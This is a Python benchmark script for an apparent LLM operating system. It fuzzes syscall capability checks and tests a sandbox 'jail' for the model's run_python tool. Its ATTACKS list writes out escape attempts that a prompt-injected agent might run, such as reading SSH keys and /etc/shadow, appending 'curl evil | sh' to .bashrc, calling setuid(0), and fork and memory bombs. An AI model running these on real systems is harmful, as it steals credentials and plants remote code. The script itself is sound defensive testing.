"""Security properties, measured over many random attempts (the property tests run the same
checks on a few hundred, tests/syscalls/test_capability_properties.py).

Sections, each a function of the arguments returning its figures (add one, a jail's say,
as a function and an entry in SECTIONS):

  capabilities  --attempts random syscalls (10,000 by default, seeded) from processes with
                random capability sets, --calls each, on a kernel with the FakeDriver; each
                call's needs (its class's `capability` and `needs(caller)`) are worked out
                before it is made. Counted: attempts, invalid requests (EINVAL/ENOSYS),
                denied (needs not held, refused), allowed with the grant (and of those, how
                many returned a result), unauthorized successes (must be 0), untyped errors
                (not a SyscallError; must be 0), other breaches (a refused call that changed
                something or was charged, a wrong errno, a held call refused by the
                dispatcher, a child holding more than its parent; must be 0).
  fields        every field of every request set to each boundary value (ints at 0/-1/2**63,
                NaN and infinities, huge and odd strings, wrong types, nested junk), by a
                process holding everything and by one holding nothing: results, typed
                errors, untyped errors (must be 0).

The harness is tests/syscalls/capability_fuzz.py (shared with the tests).

    .venv/bin/python bench/security.py [--attempts 10000] [--calls 20] [--seed 0]
                                       [--only capabilities|fields|jail] [--jail-calls 20]

  jail          attacks run as run_python code (read and write outside the workspace, the
                network, other processes, privileges, fork, memory and disk bombs), each judged
                from the host: contained or got through (must be none); and the time of a
                run_python call: jailed with a warm worker (calls spaced as an agent's are, and
                back to back), jailed cold, and unjailed as before the jail (LLMOS_WEAK_SANDBOX).

Writes bench/results/security.json (with --only, the other sections' figures are kept).
Exits 1 if a section found a breach.
"""
from __future__ import annotations

import argparse
import importlib.util
import json
import logging
import sys
import time
from pathlib import Path
from typing import Any, Callable

import anyio

from common import machine, use_model_cache

RESULTS = Path(__file__).parent / "results" / "security.json"
HARNESS = Path(__file__).resolve().parent.parent / "tests" / "syscalls" / "capability_fuzz.py"


def progress(text: str) -> None:
    print(text, file=sys.stderr, flush=True)


def harness() -> Any:
    """tests/syscalls/capability_fuzz.py, loaded by path (tests/ is no package)."""
    if "capability_fuzz" in sys.modules:
        return sys.modules["capability_fuzz"]
    spec = importlib.util.spec_from_file_location("capability_fuzz", HARNESS)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules["capability_fuzz"] = module
    spec.loader.exec_module(module)
    return module


# -- capabilities --------------------------------------------------------------------------------------------
def capabilities(args: argparse.Namespace) -> dict[str, Any]:
    fuzz = harness()
    tally = fuzz.Tally()
    scenarios, began = 0, time.perf_counter()
    while tally.attempts < args.attempts:
        ch = fuzz.RandomChooser(args.seed * 1_000_003 + scenarios)
        caps = fuzz.capability_set(ch)
        calls = [fuzz.plausible_call(ch) for _ in range(min(args.calls, args.attempts - tally.attempts))]
        scenario = anyio.run(fuzz.run_scenario, caps, calls)
        tally.add(scenario, fuzz.problems(scenario))
        scenarios += 1
        if scenarios % 100 == 0:
            progress(f"capabilities: {tally.attempts} attempts, {tally.denied} denied, "
                     f"{tally.unauthorized_successes} unauthorized successes")
    elapsed = time.perf_counter() - began
    return {
        "attempts": tally.attempts, "actors": scenarios, "calls_per_process": args.calls, "seed": args.seed,
        "invalid": tally.invalid, "denied": tally.denied, "allowed_with_grant": tally.allowed,
        "allowed_with_grant_ok": tally.allowed_ok,
        "unauthorized_successes": tally.unauthorized_successes, "untyped_errors": tally.untyped_errors,
        "other_breaches": tally.other_problems, "examples": tally.examples,
        "time_s": elapsed, "attempts_per_s": tally.attempts / elapsed,
        "by_call": dict(sorted(tally.by_call.items())),
        "ok": tally.unauthorized_successes == 0 and tally.untyped_errors == 0 and tally.other_problems == 0,
    }


# -- fields --------------------------------------------------------------------------------------------------
def fields(args: argparse.Namespace) -> dict[str, Any]:
    fuzz = harness()
    counts = {"calls": 0, "results": 0, "typed_errors": 0, "blocked": 0, "untyped_errors": 0, "other_breaches": 0}
    examples: list[str] = []
    began = time.perf_counter()
    for call in sorted(fuzz.TABLE.by_name):
        requests = []
        for field in fuzz.fields_of(call):
            values = fuzz.APP_JUNK if (call, field) == ("spawn", "app") else fuzz.BOUNDARY_VALUES
            requests += [fuzz.junk_call(call, field, value) for value in (*values, fuzz.nested(100), fuzz.nested(5000))]
        requests += [{"call": value} for value in fuzz.BOUNDARY_VALUES] if call == "getpid" else []
        for caps in (frozenset({"*"}), frozenset()):
            scenario = anyio.run(lambda: fuzz.run_scenario(caps, requests, block_patience_s=0.05))
            for o in scenario.outcomes:
                counts["calls"] += 1
                counts["results"] += o.kind == "ok"
                counts["typed_errors"] += o.kind == "error"
                counts["blocked"] += o.kind == "hung"
            for problem in fuzz.problems(scenario, may_block=fuzz.MAY_BLOCK):
                counts["untyped_errors" if problem.startswith("untyped") else "other_breaches"] += 1
                if len(examples) < 20:
                    examples.append(problem)
    elapsed = time.perf_counter() - began
    return {**counts, "values_per_field": len(fuzz.BOUNDARY_VALUES) + 2, "examples": examples, "time_s": elapsed,
            "ok": counts["untyped_errors"] == 0 and counts["other_breaches"] == 0}


# -- jail ------------------------------------------------------------------------------------------------------
# Each attack: run_python code a model might write after reading an attacker's text, and how
# to tell from the host whether it got through. {secret}, {home}, {llmos_home}, {port}, {pid}
# and {outside} are filled in.
ATTACKS: list[tuple[str, str, str]] = [
    ("read HOME", "open({home!r} + '/.ssh/id_ed25519').read()", "answer"),
    ("read LLMOS_HOME", "open({llmos_home!r} + '/secret.txt').read()", "answer"),
    ("read /etc/shadow", "open('/etc/shadow').read()", "answer"),
    ("read /etc/passwd", "open('/etc/passwd').read()", "passwd"),
    ("list LLMOS_HOME", "__import__('os').listdir({llmos_home!r})", "listing"),
    ("write /usr", "open('/usr/evil', 'w').write('x')", "file:/usr/evil"),
    ("write LLMOS_HOME", "open({llmos_home!r} + '/evil', 'w').write('x')", "file:{llmos_home}/evil"),
    ("write another workspace", "open({llmos_home!r} + '/workspaces/other/evil', 'w').write('x')",
     "file:{llmos_home}/workspaces/other/evil"),
    ("write HOME", "open({home!r} + '/.bashrc', 'a').write('curl evil | sh')", "file:{home}/.bashrc"),
    ("write the llmos code", "open({outside!r}, 'w').write('x')", "file:{outside}"),
    ("network to the host", "__import__('socket').create_connection(('127.0.0.1', {port}), 3).recv(2)", "answer"),
    ("network outside", "__import__('socket').create_connection(('1.1.1.1', 53), 3)", "connected"),
    ("see host processes", "sorted(int(p) for p in __import__('os').listdir('/proc') if p.isdigit())", "pids"),
    ("signal the kernel", "__import__('os').kill({pid}, 15)", "alive"),
    ("become root again", "__import__('os').setuid(0)", "setuid"),
    ("fork bomb", "import os, time\nn = 0\ntry:\n    while n < 5000:\n        if os.fork() == 0:\n"
                  "            time.sleep(3); os._exit(0)\n        n += 1\nexcept OSError:\n    pass\nn", "forks"),
    ("memory bomb", "len(bytearray(4 * 1024 ** 3))", "memory"),
    ("fill the disk", "open('big', 'wb').write(b'x' * (200 * 1024 ** 2))", "disk"),
]


def _got_through(kind: str, answer: Any, marks: dict[str, Any]) -> bool:
    """Whether the attack succeeded, judged from the host."""
    value = answer.get("result") if isinstance(answer, dict) else None
    if kind.startswith("file:"):
        return Path(kind[5:].format(**marks)).exists()
    if kind == "answer":
        return value is not None and ("SECRET" in value or "ok" in value or "root:" in value)
    if kind == "passwd":
        return value is not None and "root:" in value
    if kind == "listing":
        return value is not None and "secret.txt" in value
    if kind == "connected":
        return isinstance(answer, dict)
    if kind == "pids":
        return value is not None and len(eval(value)) > 10  # noqa: S307 - a list of ints we asked for
    if kind == "alive":
        return not marks["alive"]()
    if kind == "setuid":
        return isinstance(answer, dict) and __import__("os").geteuid() == 0
    if kind == "forks":
        return value is not None and int(value) >= 1000
    if kind == "memory":
        return value is not None
    if kind == "disk":
        return value is not None
    raise ValueError(kind)


async def _jail_run(args: argparse.Namespace) -> dict[str, Any]:
    import os
    import socket
    import statistics
    import tempfile
    import threading

    import llmos
    from llmos.drivers.tools import jail
    from llmos.testing import FakeDriver, caught, spawn_and_wait

    if jail.problem() is not None:
        return {"ok": False, "error": f"no jail here: {jail.problem()}"}
    home = Path(tempfile.mkdtemp(prefix="llmos-bench-home-"))
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("SECRET KEY")
    os.environ["HOME"] = str(home)
    llmos_home = Path(os.environ["LLMOS_HOME"])
    (llmos_home / "secret.txt").write_text("SECRET")
    (llmos_home / "workspaces" / "other").mkdir(parents=True, exist_ok=True)
    listener = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=lambda: [c.sendall(b"ok") for c, _ in iter(listener.accept, None)], daemon=True).start()
    marks = {"home": str(home), "llmos_home": str(llmos_home), "port": listener.getsockname()[1], "pid": os.getpid(),
             "outside": str(Path(llmos.__file__).parent / "evil.py"), "alive": lambda: True}
    caps = frozenset({"tool.run_python"})

    async def run(kernel: Any, code: str) -> Any:
        async def main(sys: Any) -> Any:
            return await caught(sys.call_tool("run_python", code=code))
        answer = (await spawn_and_wait(kernel, main, caps=caps, name="agent", timeout=60)).result
        return answer[1] if isinstance(answer, tuple) else answer

    tried, through = [], []
    async with llmos.boot(FakeDriver(), memory=None, mcp_servers=None, embedder=None) as kernel:
        for name, code, kind in ATTACKS:
            answer = await run(kernel, code.format(**marks))
            tried.append(name)
            if _got_through(kind, answer, marks):
                through.append(name)
            progress(f"jail: {name}: {'GOT THROUGH' if name in through else 'contained'}")
        latency = {"warm_spaced_ms": [], "warm_back_to_back_ms": []}
        for key, pause in (("warm_spaced_ms", 0.3), ("warm_back_to_back_ms", 0.0)):
            for _ in range(args.jail_calls):
                await anyio.sleep(pause)  # an agent's thinking between calls: the next worker starts meanwhile
                began = time.perf_counter()
                await run(kernel, "6 * 7")
                latency[key].append((time.perf_counter() - began) * 1000)
        kernel.tools.workers.limit = 0  # no worker kept ahead: each call starts its own jail (cold)
        await kernel.tools.workers.aclose()
        cold = []
        for _ in range(args.jail_calls):
            began = time.perf_counter()
            await run(kernel, "6 * 7")
            cold.append((time.perf_counter() - began) * 1000)
    os.environ[jail.WEAK_SANDBOX_ENV] = "1"  # before: today's unjailed sandbox, a fresh interpreter a call
    jail.problem.cache_clear()
    path = os.environ["PATH"]
    os.environ["PATH"] = "/nonexistent"
    try:
        async with llmos.boot(FakeDriver(), memory=None, mcp_servers=None, embedder=None) as kernel:
            unjailed = []
            for _ in range(args.jail_calls):
                began = time.perf_counter()
                await run(kernel, "6 * 7")
                unjailed.append((time.perf_counter() - began) * 1000)
    finally:
        os.environ["PATH"] = path
        del os.environ[jail.WEAK_SANDBOX_ENV]
        jail.problem.cache_clear()
    median = {key: round(statistics.median(values), 1) for key, values in
              {**latency, "cold_jailed_ms": cold, "unjailed_before_ms": unjailed}.items()}
    return {"attacks_tried": len(tried), "got_through": through, "contained": len(tried) - len(through),
            "attacks": tried, "calls_each": args.jail_calls, "median_call_ms": median, "ok": not through}


def jail_section(args: argparse.Namespace) -> dict[str, Any]:
    return anyio.run(_jail_run, args)


SECTIONS: dict[str, Callable[[argparse.Namespace], dict[str, Any]]] = {
    "capabilities": capabilities,
    "fields": fields,
    "jail": jail_section,
}


def report(name: str, r: dict[str, Any]) -> None:
    if name == "capabilities":
        print(f"capabilities: {r['attempts']} attempts by {r['actors']} processes in {r['time_s']:.1f} s "
              f"({r['attempts_per_s']:.0f}/s): {r['denied']} denied, {r['allowed_with_grant']} allowed with the "
              f"grant ({r['allowed_with_grant_ok']} returned a result), {r['invalid']} invalid; "
              f"unauthorized successes {r['unauthorized_successes']}, untyped errors {r['untyped_errors']}, "
              f"other breaches {r['other_breaches']}")
    elif name == "fields":
        print(f"fields: {r['calls']} junk calls in {r['time_s']:.1f} s: {r['typed_errors']} typed errors, "
              f"{r['results']} results, {r['blocked']} blocked (may block); untyped errors {r['untyped_errors']}, "
              f"other breaches {r['other_breaches']}")
    elif name == "jail" and "error" not in r:
        print(f"jail: {r['contained']} of {r['attacks_tried']} attacks contained, got through: {r['got_through'] or 0}; "
              f"run_python median ms: {r['median_call_ms']}")
    else:
        print(f"{name}: {json.dumps({k: v for k, v in r.items() if not isinstance(v, (list, dict))})}")
    for example in r.get("examples", [])[:5]:
        print(f"    {example[:300]}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--attempts", type=int, default=10_000, help="random syscalls in the capabilities section")
    parser.add_argument("--calls", type=int, default=20, help="syscalls per process (one kernel per process)")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--jail-calls", type=int, default=20, help="run_python calls timed per way of running it")
    parser.add_argument("--only", choices=sorted(SECTIONS), help="run one section")
    args = parser.parse_args()
    use_model_cache("llmos-bench-security-")  # a temporary LLMOS_HOME, never ~/.llmos
    logging.disable(logging.WARNING)  # the kernel's notes on calls that failed as they should

    results: dict[str, Any] = json.loads(RESULTS.read_text()) if RESULTS.exists() and args.only else {}
    results["machine"] = machine(threads=1)
    results["command"] = " ".join(["bench/security.py", *sys.argv[1:]])
    for name, section in SECTIONS.items():
        if args.only in (None, name):
            results[name] = section(args)
            report(name, results[name])
            RESULTS.parent.mkdir(parents=True, exist_ok=True)
            RESULTS.write_text(json.dumps(results, indent=2, default=str) + "\n")
    print(f"saved {RESULTS}")
    if not all(r.get("ok", True) for name, r in results.items() if name in SECTIONS):
        sys.exit(1)


if __name__ == "__main__":
    main()
